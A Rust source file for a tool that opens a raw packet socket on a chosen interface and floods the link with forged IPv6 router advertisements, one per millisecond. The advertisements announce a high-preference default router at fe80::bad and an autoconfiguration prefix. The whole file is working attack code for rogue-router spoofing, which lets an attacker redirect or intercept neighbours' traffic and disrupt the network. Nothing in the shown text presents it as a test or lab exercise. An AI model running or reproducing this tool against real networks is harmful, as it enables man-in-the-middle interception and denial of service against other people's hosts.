//! Sends router advertisements out of a link until it is killed, one a millisecond: that there is a
//! default router, and a network in which whoever hears it gives itself an address.
//! `advertise LINK`.

use std::ffi::CString;
use std::process::ExitCode;
use std::time::Duration;

/// fe80::bad, to all nodes
const SOURCE: [u8; 16] = [0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x0b, 0xad];
const TARGET: [u8; 16] = [0xff, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
const STATION: [u8; 6] = [2, 0, 0, 0, 0xba, 0xd0];

fn main() -> ExitCode {
    let link = std::env::args().nth(1).and_then(|name| CString::new(name).ok());
    let Some(link) = link else {
        eprintln!("usage: advertise LINK");
        return ExitCode::from(2);
    };
    let frame = frame();
    match open(&link) {
        Err(error) => {
            eprintln!("advertise: {error}");
            ExitCode::FAILURE
        }
        Ok(socket) => loop {
            send(socket, &frame);
            std::thread::sleep(Duration::from_millis(1));
        },
    }
}

/// RFC 4861 section 4.2: a router with high preference, its address, and 2001:db8::/64.
fn frame() -> Vec<u8> {
    let mut message = vec![134, 0, 0, 0, 64, 0x08, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0, 1, 1];
    message.extend(STATION);
    message.extend([3, 4, 64, 0xc0, 0, 0, 0xff, 0xff, 0, 0, 0xff, 0xff, 0, 0, 0, 0]);
    message.extend([0x20, 1, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    let length = u16::try_from(message.len()).unwrap_or(u16::MAX);
    let mut summed = [SOURCE, TARGET].concat();
    summed.extend(u32::from(length).to_be_bytes());
    summed.extend([0, 0, 0, 58]);
    summed.extend(&message);
    message[2..4].copy_from_slice(&checksum(&summed).to_be_bytes());
    let mut frame = vec![0x33, 0x33, 0, 0, 0, 1];
    frame.extend(STATION);
    frame.extend([0x86, 0xdd, 0x60, 0, 0, 0]);
    frame.extend(length.to_be_bytes());
    frame.extend([58, 255]);
    frame.extend(SOURCE);
    frame.extend(TARGET);
    frame.extend(message);
    frame
}

/// RFC 1071
fn checksum(bytes: &[u8]) -> u16 {
    let mut sum: u32 = bytes.chunks(2).map(|two| u32::from(two[0]) << 8 | u32::from(two[1])).sum();
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or_default()
}

/// A packet(7) socket that is bound to a link.
#[allow(unsafe_code, reason = "nothing safe in our libraries opens packet sockets")]
fn open(link: &CString) -> std::io::Result<i32> {
    // SAFETY: the name ends with a NUL, and the address is a whole one of the size that is given.
    unsafe {
        let index = libc::if_nametoindex(link.as_ptr());
        let socket = libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0);
        let mut address: libc::sockaddr_ll = std::mem::zeroed();
        address.sll_family = libc::AF_PACKET as u16;
        address.sll_protocol = (libc::ETH_P_IPV6 as u16).to_be();
        address.sll_ifindex = index.cast_signed();
        let length = size_of::<libc::sockaddr_ll>() as u32;
        if index == 0 || libc::bind(socket, (&raw const address).cast(), length) != 0 {
            return Err(std::io::Error::last_os_error());
        }
        Ok(socket)
    }
}

/// A link that is down for a moment sends nothing.
#[allow(unsafe_code, reason = "the socket is a number here")]
fn send(socket: i32, frame: &[u8]) {
    // SAFETY: the frame lives for the call.
    unsafe { libc::send(socket, frame.as_ptr().cast(), frame.len(), 0) };
}
